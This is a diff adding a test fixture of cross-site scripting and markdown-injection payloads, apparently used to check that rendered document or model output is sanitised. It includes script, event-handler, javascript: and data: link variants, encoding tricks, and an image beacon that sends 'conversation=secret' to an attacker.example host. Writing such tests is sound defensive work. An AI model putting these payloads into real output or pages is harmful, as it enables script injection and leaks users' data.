@@ -1,0 +1,20 @@
+/** The attack payloads the output-safety tests send, as a document or a model would carry them: each class issue 18 names. */
+export const ATTACKS = {
+  imgOnerror: `<img src="x" onerror="document.title='XSS-FIRED'">`,
+  script: "<script>document.title='XSS-FIRED'</script>",
+  iframe: `<iframe src="javascript:document.title='XSS-FIRED'"></iframe>`,
+  svgOnload: `<svg onload="document.title='XSS-FIRED'">`,
+  javascriptLink: "[click me](javascript:document.title='XSS-FIRED')",
+  javascriptLinkEntity: "[click me](javascript&#58;document.title='XSS-FIRED')",
+  dataLink: "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  referenceLink: "[click][evil]\n\n[evil]: javascript:document.title='XSS-FIRED'",
+  imageBeacon: "![logo](https://beacon.attacker.example/p.png?conversation=secret)",
+  referenceImage: "![logo][b]\n\n[b]: https://beacon.attacker.example/r.png",
+  entities: "&lt;img src=x onerror=document.title='XSS-FIRED'&gt; &#60;script&#62;x&#60;/script&#62; &LTsvg onload=x&GT",
+  hrefBreakout: `[docs](https://example.com/"onmouseover="document.title='XSS-FIRED')`,
+  linkRunBreakout: `see https://example.com/"onmouseover="document.title='XSS-FIRED' and tel:1"onclick="x`,
+  autolink: "<javascript:document.title='XSS-FIRED'>",
+  comment: "<!-- x --><!DOCTYPE html><?xml x?>",
+  escapedBackslash: "\\\\<img src=x onerror=document.title='XSS-FIRED'>",
+  controlHidden: "<\u0000img src=x onerror=document.title='XSS-FIRED'>",
+} as const;
